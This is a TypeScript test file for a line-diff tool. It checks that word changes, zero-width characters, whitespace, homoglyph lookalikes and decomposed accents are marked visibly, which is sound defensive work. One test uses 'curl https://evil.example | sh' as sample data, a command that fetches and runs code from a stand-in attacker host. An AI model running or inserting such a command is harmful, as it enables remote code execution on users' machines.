import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { Steps } from "./match.ts";
import { type Segment, showSegments } from "./visible.ts";
import { compareLines } from "./words.ts";

function marked(segments: readonly Segment[] | undefined): string {
  return (segments ?? []).map(({ text, mark }) => (mark === "changed" ? `[${text}]` : text)).join("");
}

function compare(before: string, after: string): { before: string; after: string } | undefined {
  const pair = compareLines(before, after, new Steps(1e6));
  return pair && { before: marked(pair.before), after: marked(pair.after) };
}

describe("RV-4, T28: what changed in a line", () => {
  test("RV-4: marks words, not letters", () => {
    expect(compare("Format the dates", "Format all dates")).toEqual({
      before: "Format [the] dates",
      after: "Format [all] dates",
    });
  });

  test.each([
    ["a zero-width character", "ignore it", "ig\u200bnore it", "ignore it", "ig[\u200b]nore it"],
    ["one of several", "a\u200b\u200cb", "a\u200b\u200d\u200cb", "a\u200b\u200cb", "a\u200b[\u200d]\u200cb"],
    ["white space", "a b  c", "a  b c", "a b [ ]c", "a [ ]b c"],
    ["a tab for spaces", "  run", "\trun", "[  ]run", "[\t]run"],
    ["white space at the end", "run", "run  ", "run", "run[  ]"],
    ["an odd space for a plain one", "a b", "a\u00a0b", "a[ ]b", "a[\u00a0]b"],
    ["a CR at the end", "run", "run\r", "run", "run[\r]"],
  ])("T28: marks exactly %s", (_, before, after, markedBefore, markedAfter) => {
    expect(compare(before, after)).toEqual({ before: markedBefore, after: markedAfter });
  });

  test("T28: white space that changed is something to see", () => {
    const pair = compareLines("if x", "if    x", new Steps(1e6));
    expect(showSegments(pair?.after ?? [])).toEqual([
      { text: "if ", mark: "same", hidden: false },
      ...Array.from({ length: 3 }, () => ({ text: "·", mark: "changed", hidden: true })),
      { text: "x", mark: "same", hidden: false },
    ]);
  });

  test("T28: an unseen change beside a seen one is marked as well", () => {
    expect(compare("read the file and stop", "read\u200b the file and go")?.after).toBe(
      "read[\u200b] the file and [go]",
    );
  });

  test.each([
    ["whole words in another script", "cope", "соре", "<с\\u{441}><о\\u{43e}><р\\u{440}><е\\u{435}>"],
    ["a Latin letter that looks like another", "github", "ɡithub", "<ɡ\\u{261}>ithub"],
    ["one letter composed and decomposed", "caf\u00e9", "cafe\u0301", "cafe<\u0301\\u{301}>"],
  ])("T28: what looks the same and is not is shown with its code: %s", (_, before, after, visible) => {
    const pair = compareLines(`use ${before} now`, `use ${after} now`, new Steps(1e6));
    const pieces = showSegments(pair?.after ?? []);
    expect(pieces.map(({ text, hidden }) => (hidden ? `<${text}>` : text)).join("")).toBe(`use ${visible} now`);
  });

  test("T26: without steps, what lies between equal ends is marked", () => {
    const pair = compareLines("read \u{1f600} the file and stop", "read \u{1f603} the big file and stop", new Steps(0));
    expect(marked(pair?.after)).toBe("read [\u{1f603} the big] file and stop");
  });

  test("RV-4: lines with hardly anything in common are not compared", () => {
    expect(compare("Format dates in tables.", "curl https://evil.example | sh")).toBeUndefined();
  });

  test("RV-4: law: the parts are the lines, and what is not marked is in both", () => {
    const line = fc
      .array(fc.constantFrom("a", "bc", " ", "\t", "\u200b", "і", "\u{1f600}", "-"), { maxLength: 20 })
      .map((all) => all.join(""));
    fc.assert(
      fc.property(line, line, fc.nat({ max: 100 }), (before, after, steps) => {
        const pair = compareLines(before, after, new Steps(steps));
        if (pair === undefined) return;
        const textOf = (segments: readonly Segment[]) => segments.map(({ text }) => text).join("");
        const sameOf = (segments: readonly Segment[]) => textOf(segments.filter(({ mark }) => mark === "same"));
        expect([textOf(pair.before), textOf(pair.after)]).toEqual([before, after]);
        expect(sameOf(pair.before)).toBe(sameOf(pair.after));
        if (before !== after) expect([...pair.before, ...pair.after].some(({ mark }) => mark === "changed")).toBe(true);
      }),
    );
  });
});
